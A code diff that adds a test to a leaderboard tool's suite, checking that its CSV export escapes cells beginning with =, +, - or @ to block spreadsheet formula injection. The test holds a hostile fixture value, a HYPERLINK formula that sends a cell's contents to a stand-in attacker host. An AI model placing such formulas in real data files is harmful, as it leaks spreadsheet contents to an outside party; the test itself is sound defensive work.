@@ -320,3 +320,28 @@ def test_tool_board_is_the_difficulty_weighted_mean_of_task_scores() -> None:
     assert board["A"].tasks == 2 and board["A"].submissions == 6
     assert board["B"].overall.mean == pytest.approx(80.0)
     assert board["B"].rank == 1 and board["A"].rank == 2
+
+
+def test_the_csv_holds_no_formula_a_contributor_wrote() -> None:
+    """A tool named ``=HYPERLINK(...)`` passes validation; the published CSV opened in a
+    spreadsheet ran it (CSV injection). Such a cell is written with a leading quote, read
+    back by the csv module as the text with that quote, and other names are untouched."""
+    import csv
+    import io
+
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"details")'
+    items = [
+        make_input("a", make_submission(tool=hostile, contributor="@mallory", model="+x")),
+        make_input("b", make_submission(tool="Aider", contributor="-dash", model="gpt-5")),
+    ]
+    rows = list(csv.DictReader(io.StringIO(to_csv(board([make_task()], items)))))
+    by_key = {row["key"]: row for row in rows}
+    assert by_key["demo/a"]["tool"] == "'" + hostile
+    assert by_key["demo/a"]["contributor"] == "'@mallory"
+    assert by_key["demo/a"]["model"] == "'+x"
+    assert by_key["demo/a"]["label"].startswith("'=HYPERLINK")
+    assert by_key["demo/b"]["tool"] == "Aider" and by_key["demo/b"]["model"] == "gpt-5"
+    assert by_key["demo/b"]["contributor"] == "'-dash"
+    for row in rows:
+        assert not any(str(value).startswith(("=", "+", "-", "@")) for value in row.values()
+                       if value and not value.lstrip("-").replace(".", "").isdigit())
